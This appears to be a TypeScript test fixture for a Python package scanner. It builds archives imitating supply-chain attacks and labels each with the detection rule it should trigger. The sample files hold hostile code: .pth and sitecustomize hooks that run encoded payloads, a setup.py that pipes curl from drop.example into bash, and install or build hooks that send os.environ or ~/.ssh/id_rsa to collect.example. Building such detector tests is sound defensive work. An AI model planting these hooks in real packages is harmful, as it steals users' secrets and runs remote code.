import { deflateSync } from 'node:zlib'
import { PROGRAM_BYTES, sdistExample, wheelExample, type BuiltArchive } from './built.examples.ts'
import { hostileArchives } from './hostile-archives.examples.ts'

export interface ReleaseExample {
  readonly what: string
  readonly archives: readonly BuiltArchive[]
  readonly against?: readonly BuiltArchive[]
  /** Rules of which one must speak at high or above (hostile). */
  readonly rules?: readonly string[]
}

const PAYLOAD = Buffer.from("print('payload')").toString('base64')
const NOTHING = { 'sample/__init__.py': "__version__ = '1.0'\n" }
const SEND_ENVIRONMENT =
  "import os, urllib.request, json\nurllib.request.urlopen('https://collect.example/in', data=json.dumps(dict(os.environ)).encode())\n"
const SETUP = "from setuptools import setup\nsetup(name='sample', version='1.0', packages=['sample'])\n"

/** One archive, or several of one release, that do what published incidents did. Payloads print a word. */
export const hostileReleases: readonly ReleaseExample[] = [
  {
    what: 'a .pth that starts another interpreter on encoded code',
    archives: [
      wheelExample({
        ...NOTHING,
        'sample_init.pth': `import os, subprocess, sys; subprocess.Popen([sys.executable, "-c", "import base64; exec(base64.b64decode('${PAYLOAD}'))"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n`,
      }),
    ],
    rules: ['packages-hidden-code', 'packages-unasked-command'],
  },
  {
    what: 'a .pth that imports a module of the package, which sends the environment',
    archives: [
      wheelExample({
        ...NOTHING,
        'zz_sample.pth': 'import sample._boot\n',
        'sample/_boot.py': SEND_ENVIRONMENT,
      }),
    ],
    rules: ['packages-exfiltration'],
  },
  {
    what: 'a .start file that calls a function with a request in it',
    archives: [
      wheelExample({
        ...NOTHING,
        'sample.start': 'sample._hook:begin\n',
        'sample/_hook.py':
          "import urllib.request\n\ndef begin():\n    urllib.request.urlopen('https://collect.example/ping').read()\n",
      }),
    ],
    rules: ['packages-unasked-network'],
  },
  {
    what: 'a .pth that executes a file',
    archives: [
      wheelExample({
        ...NOTHING,
        'x.pth': "import os; exec(open(os.path.join(os.path.dirname(os.__file__), 'x.dat')).read())\n",
      }),
    ],
    rules: ['packages-loader-hook'],
  },
  {
    what: 'a sitecustomize that fetches and executes',
    archives: [
      wheelExample({
        ...NOTHING,
        'sitecustomize.py':
          "import urllib.request\nexec(urllib.request.urlopen('https://drop.example/x.py').read())\n",
      }),
    ],
    rules: ['packages-dropper', 'packages-hidden-code'],
  },
  {
    what: 'a .pth among the data files of a wheel',
    archives: [
      wheelExample({
        ...NOTHING,
        'sample-1.0.data/purelib/zz.pth': "import os; os.system('echo payload | sh')\n",
      }),
    ],
    rules: ['packages-unasked-command'],
  },
  {
    what: 'setup.py downloads a program and runs it',
    archives: [
      sdistExample({
        ...NOTHING,
        'setup.py': `import os, tempfile, urllib.request\nfrom setuptools import setup\npath = os.path.join(tempfile.gettempdir(), 'updater')\nurllib.request.urlretrieve('https://drop.example/updater', path)\nos.chmod(path, 0o755)\nos.system(path)\n${SETUP}`,
      }),
    ],
    rules: ['packages-dropper', 'packages-unasked-command'],
  },
  {
    what: 'an install command sends the environment',
    archives: [
      sdistExample({
        ...NOTHING,
        'setup.py': `import os, requests\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass Install(install):\n    def run(self):\n        install.run(self)\n        requests.post('https://collect.example/in', json=dict(os.environ))\n\nsetup(name='sample', version='1.0', cmdclass={'install': Install})\n`,
      }),
    ],
    rules: ['packages-exfiltration'],
  },
  {
    what: 'setup.py imports a helper whose function sends the host name',
    archives: [
      sdistExample({
        ...NOTHING,
        'build_helpers.py':
          "import socket, urllib.request\n\ndef prepare():\n    urllib.request.urlopen('https://collect.example/?h=' + socket.gethostname())\n",
        'setup.py': `from build_helpers import prepare\nprepare()\n${SETUP}`,
      }),
    ],
    rules: ['packages-exfiltration', 'packages-unasked-network'],
  },
  {
    what: 'setup.py pipes a download into a shell',
    archives: [
      sdistExample({
        ...NOTHING,
        'setup.py': `import os\nos.system('curl -s https://drop.example/i.sh | bash')\n${SETUP}`,
      }),
    ],
    rules: ['packages-dropper'],
  },
  {
    what: 'setup.py executes compressed code',
    archives: [
      sdistExample({
        ...NOTHING,
        'setup.py': `import base64, zlib\nexec(zlib.decompress(base64.b64decode('${deflateSync("print('payload')").toString('base64')}')))\n${SETUP}`,
      }),
    ],
    rules: ['packages-hidden-code'],
  },
  {
    what: 'a build back end of its own downloads and executes',
    archives: [
      sdistExample({
        ...NOTHING,
        'pyproject.toml':
          "[build-system]\nrequires = ['setuptools']\nbuild-backend = 'backend'\nbackend-path = ['_build']\n",
        '_build/backend.py':
          "from setuptools.build_meta import *\nimport urllib.request\n\ndef get_requires_for_build_wheel(config_settings=None):\n    exec(urllib.request.urlopen('https://drop.example/b').read())\n    return []\n",
      }),
    ],
    rules: ['packages-dropper', 'packages-hidden-code'],
  },
  {
    what: 'a hatch hook reads keys and sends them',
    archives: [
      sdistExample({
        ...NOTHING,
        'pyproject.toml':
          "[build-system]\nrequires = ['hatchling']\nbuild-backend = 'hatchling.build'\n[tool.hatch.build.hooks.custom]\n",
        'hatch_build.py':
          "import os, requests\nfrom hatchling.builders.hooks.plugin.interface import BuildHookInterface\n\nclass Hook(BuildHookInterface):\n    def initialize(self, version, build_data):\n        requests.post('https://collect.example', data=open(os.path.expanduser('~/.ssh/id_rsa')).read())\n",
      }),
    ],
    rules: ['packages-exfiltration'],
  },
  {
    what: 'a dictionary whose constructor sends the environment',
    archives: [
      wheelExample({
        'sample.py':
          "import os, base64, requests\n\nclass Sample(dict):\n    def __init__(self):\n        self.send()\n\n    def send(self):\n        text = ''\n        for key, value in os.environ.items():\n            text += key + '=' + value + ' '\n        encoded = base64.b64encode(text.encode()).decode()\n        requests.get('https://collect.example/hacked/' + encoded)\n",
      }),
    ],
    rules: ['packages-exfiltration'],
  },
  {
    what: 'a native program of the package is started on import and files are collected',
    archives: [
      wheelExample(
        {
          'sample/__init__.py': 'from .runtime import *\n',
          'sample/runtime/__init__.py':
            "import os, subprocess\nsubprocess.Popen([os.path.join(os.path.dirname(__file__), 'sample_rt')])\n",
          'sample/runtime/sample_rt': PROGRAM_BYTES,
        },
        { tag: 'cp311-cp311-manylinux_2_28_x86_64' },
      ),
    ],
    rules: ['packages-bundled-program'],
  },
  {
    what: 'a function in another file is called on import and sends the environment',
    archives: [
      wheelExample({
        'sample/__init__.py': 'from . import telemetry as _t\n_t.report()\n',
        'sample/telemetry.py':
          "import os, requests\n\ndef report():\n    requests.post('https://collect.example', json=dict(os.environ))\n",
      }),
    ],
    rules: ['packages-exfiltration'],
  },
  {
    what: 'unmarshalled code is executed on import',
    archives: [
      wheelExample({
        'sample/__init__.py': `import marshal, base64\nexec(marshal.loads(base64.b64decode('${PAYLOAD}')))\n`,
      }),
    ],
    rules: ['packages-hidden-code'],
  },
  {
    what: 'one wheel of two is poisoned, the source is clean',
    archives: [
      sdistExample({ ...NOTHING, 'setup.py': SETUP, 'sample/core.py': 'def add(a, b):\n    return a + b\n' }),
      wheelExample(
        { ...NOTHING, 'sample/core.py': 'def add(a, b):\n    return a + b\n' },
        { tag: 'cp311-cp311-win_amd64' },
      ),
      wheelExample(
        {
          ...NOTHING,
          'sample/core.py':
            "import subprocess\nsubprocess.Popen(['updater', '--now'])\n\ndef add(a, b):\n    return a + b\n",
        },
        { tag: 'cp311-cp311-manylinux_2_28_x86_64' },
      ),
    ],
    rules: ['packages-unlike-source', 'packages-unlike-sibling'],
  },
  {
    what: 'a start file is in the wheel alone',
    archives: [
      sdistExample({ ...NOTHING, 'setup.py': SETUP }),
      wheelExample({ ...NOTHING, 'sample.pth': 'import sample\n' }),
    ],
    rules: ['packages-unlike-source'],
  },
  ...hostileArchives,
]
